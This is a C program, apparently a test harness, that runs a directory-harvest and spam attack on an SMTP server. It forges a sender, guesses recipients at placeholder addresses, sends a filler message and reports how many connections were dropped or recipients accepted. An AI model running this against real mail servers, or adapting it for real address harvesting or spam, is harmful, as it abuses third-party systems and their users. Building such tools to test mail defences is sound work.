/* smtp_attack.c - a dictionary attack, one SMTP session after another,
 * from one process (so the server's process count is the server's).
 *
 *   smtp_attack -s IP -p PORT [-n SESSIONS] [-r RCPTS] [-t CONNECT_MS]
 *
 * Each session: EHLO, MAIL FROM a forged sender, RCPTS guessed recipients
 * (guessS-K@example.com); if any is accepted, a 2 KB message, as a
 * spammer would send; QUIT. A connection that is not accepted within
 * CONNECT_MS (default 1100: the SYN and one retransmission) counts as
 * dropped. Prints one key=value line. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define REPLY_MS 10000

static unsigned long accepted, rejected, messages;

/* Connect within ms; -1 if not accepted in time. */
static int dial(const struct sockaddr_in *sa, int ms)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), err = 0;
	socklen_t el = sizeof(err);
	struct pollfd p = { fd, POLLOUT, 0 };

	if (fd < 0)
		return -1;
	if (connect(fd, (const struct sockaddr *)sa, sizeof(*sa)) < 0 && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	if (poll(&p, 1, ms) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &el) < 0 || err) {
		close(fd);
		return -1;
	}
	fcntl(fd, F_SETFL, 0);
	return fd;
}

/* The reply's code (last line of a multi-line reply), 0 if the server
 * went away or said nothing in time. */
static int reply(int fd)
{
	char buf[4096];
	size_t n = 0;

	for (;;) {
		struct pollfd p = { fd, POLLIN, 0 };
		ssize_t r;
		char *line, *nl;

		if (poll(&p, 1, REPLY_MS) != 1 || (r = read(fd, buf + n, sizeof(buf) - 1 - n)) <= 0)
			return 0;
		n += (size_t)r;
		buf[n] = '\0';
		/* The last complete line decides: "250 " ends, "250-" goes on. */
		for (line = buf; (nl = strchr(line, '\n')); line = nl + 1)
			if (nl - line >= 4 && line[3] == ' ')
				return atoi(line);
		if (n == sizeof(buf) - 1)
			n = 0;
	}
}

static int say(int fd, const char *s)
{
	size_t len = strlen(s);

	return write(fd, s, len) == (ssize_t)len ? reply(fd) : 0;
}

static void session(int fd, unsigned s, unsigned rcpts)
{
	char cmd[128];
	unsigned ok = 0;

	if (reply(fd) != 220 || say(fd, "EHLO bot.example.net\r\n") != 250 ||
	    say(fd, "MAIL FROM:<forged@victim.example>\r\n") != 250)
		return;
	for (unsigned k = 0; k < rcpts; k++) {
		int c;

		snprintf(cmd, sizeof(cmd), "RCPT TO:<guess%u-%u@example.com>\r\n", s, k);
		c = say(fd, cmd);
		if (c == 250)
			ok++, accepted++;
		else if (c)
			rejected++;
		if (c == 0 || c == 421)
			return;         /* hung up on: the session is over */
	}
	if (ok && say(fd, "DATA\r\n") == 354) {
		char body[2100];
		int n = snprintf(body, sizeof(body), "From: <forged@victim.example>\r\n"
				 "Subject: an offer\r\n\r\n");

		while (n < 2048)
			n += snprintf(body + n, sizeof(body) - (size_t)n, "%s\r\n",
				      "Lorem ipsum dolor sit amet, consectetur adipiscing elit.");
		if (write(fd, body, (size_t)n) == n && say(fd, ".\r\n") == 250)
			messages++;
	}
	say(fd, "QUIT\r\n");
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	unsigned sessions = 10, rcpts = 10, dropped = 0;
	int opt, ms = 1100, port = 25;
	const char *ip = NULL;

	while ((opt = getopt(argc, argv, "s:p:n:r:t:")) != -1) {
		switch (opt) {
		case 's': ip = optarg; break;
		case 'p': port = atoi(optarg); break;
		case 'n': sessions = (unsigned)atoi(optarg); break;
		case 'r': rcpts = (unsigned)atoi(optarg); break;
		case 't': ms = atoi(optarg); break;
		default: return 2;
		}
	}
	if (!ip || inet_pton(AF_INET, ip, &sa.sin_addr) != 1 || port <= 0 || port > 65535) {
		fprintf(stderr, "usage: smtp_attack -s IP -p PORT [-n SESSIONS] [-r RCPTS] [-t MS]\n");
		return 2;
	}
	sa.sin_port = htons((uint16_t)port);
	for (unsigned s = 0; s < sessions; s++) {
		int fd = dial(&sa, ms);

		if (fd < 0) {
			dropped++;
			continue;
		}
		session(fd, s, rcpts);
		close(fd);
	}
	printf("sessions=%u dropped=%u rcpt_accepted=%lu rcpt_rejected=%lu messages=%lu\n", sessions,
	       dropped, accepted, rejected, messages);
	return 0;
}
